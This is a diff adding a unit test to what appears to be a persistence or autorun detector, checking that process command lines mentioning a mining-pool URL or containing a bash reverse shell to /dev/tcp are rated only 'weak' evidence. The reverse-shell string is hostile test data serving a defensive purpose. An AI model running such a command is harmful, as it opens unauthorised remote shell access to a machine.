@@ -67,3 +67,10 @@ def test_each_thing_is_weighed(one: Autorun, certainty: str, rule: str) -> None:
 )
 def test_what_says_nothing_is_nothing(one: Autorun) -> None:
     assert weigh_autorun(one) is None
+
+
+def test_a_command_line_that_only_mentions_something_is_no_alarm() -> None:
+    for title in ("grep -r 'stratum+tcp://' /var", "sh -c 'bash -i >& /dev/tcp/192.0.2.9/1 0>&1'"):
+        weight = weigh_autorun(place("process", title))
+        assert weight is not None
+        assert weight.certainty == "weak"
